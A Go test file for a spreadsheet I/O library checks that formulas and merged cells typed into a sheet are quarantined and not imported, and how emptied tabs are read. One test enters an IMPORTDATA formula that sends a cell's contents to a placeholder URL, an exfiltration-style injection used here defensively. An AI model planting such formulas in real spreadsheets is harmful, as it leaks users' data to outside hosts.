package gsheets

import (
	"context"
	"errors"
	"testing"

	"github.com/hikoutei/hikoutei-go/sheetsio"
	"github.com/hikoutei/hikoutei-go/sheetsio/cell"
	"github.com/hikoutei/hikoutei-go/sheetsio/emulator"
)

func TestC03_FormulaFoundInSheetIsQuarantinedNotImported(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{
		{ID: "1", Tab: "Part_Input", Kind: sheetsio.OpAppend, Anchor: "a1", Values: map[string]any{"id": "1", "name": "=1+1"}},
		{ID: "2", Tab: "Part_Input", Kind: sheetsio.OpAppend, Anchor: "a2", Values: map[string]any{"id": "2", "name": "x"}},
		{ID: "3", Tab: "Part_Input", Kind: sheetsio.OpAppend, Anchor: "a3", Values: map[string]any{"id": "3", "name": "y"}},
	}})
	for i := range 3 {
		h.wantStatus(res, i, sheetsio.StatusApplied)
	}
	person := h.emu.Person(testSheetID)
	if err := person.TypeFormula("Part_Input", "B3", `=IMPORTDATA("https://example.invalid/?x="&A3)`); err != nil {
		t.Fatal(err)
	}
	if err := person.Merge("Part_Input", "B4:C4"); err != nil {
		t.Fatal(err)
	}
	grids, err := h.p.ReadGrid(context.Background(), w, "Part_Input")
	if err != nil {
		t.Fatal(err)
	}
	g := grids["Part_Input"]
	if g.Err != nil || len(g.Rows) != 3 {
		t.Fatalf("grid = %+v", g)
	}
	spec, _ := w.Schema().Tab("Part_Input")
	want := []string{"", cell.ReasonFormula, cell.ReasonMerged}
	for i, r := range g.Rows {
		v, err := cell.DecodeObserved(spec.Columns[1], r.Cells[1])
		var me *cell.MalformedError
		switch {
		case want[i] == "" && (err != nil || v != "=1+1"):
			t.Fatalf("system-written text %q read as %#v, %v", "=1+1", v, err)
		case want[i] != "" && (!errors.As(err, &me) || me.Reason != want[i] || v != nil):
			t.Fatalf("row %s: %#v, %v; want %s", r.Anchor, v, err, want[i])
		}
	}
	if g.Rows[1].Anchor != "a2" {
		t.Fatalf("anchor = %q", g.Rows[1].Anchor)
	}
}

// A tab that holds nothing at all, header included (cleared completely,
// or deleted and created again empty), reads Empty with its header
// missing; a tab that shows its header, or a cell below a missing one,
// does not.
func TestAGridReadOfATabWithNothingAtAllIsEmpty(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	person := h.emu.Person(testSheetID)
	read := func() *sheetsio.GridSnapshot {
		t.Helper()
		grids, err := h.p.ReadGrid(context.Background(), w, "Part_Input")
		if err != nil {
			t.Fatal(err)
		}
		return grids["Part_Input"]
	}
	if g := read(); g.Err != nil || g.Empty {
		t.Fatalf("a tab showing its header: Empty %v, %v", g.Empty, g.Err)
	}
	if err := person.ClearTab("Part_Input", 1); err != nil {
		t.Fatal(err)
	}
	if g := read(); !errors.Is(g.Err, sheetsio.ErrHeaderDrift) || !g.Empty {
		t.Fatalf("a tab cleared completely: Empty %v, %v", g.Empty, g.Err)
	}
	if err := person.Type("Part_Input", "A2", "x"); err != nil {
		t.Fatal(err)
	}
	if g := read(); !errors.Is(g.Err, sheetsio.ErrHeaderDrift) || g.Empty {
		t.Fatalf("a tab with a cell below a missing header: Empty %v, %v", g.Empty, g.Err)
	}
	if err := person.DeleteTab("Part_Input"); err != nil {
		t.Fatal(err)
	}
	if _, err := person.AddTab("Part_Input", 1000, 26); err != nil {
		t.Fatal(err)
	}
	if g := read(); !errors.Is(g.Err, sheetsio.ErrHeaderDrift) || !g.Empty {
		t.Fatalf("a tab deleted and created again empty: Empty %v, %v", g.Empty, g.Err)
	}
}
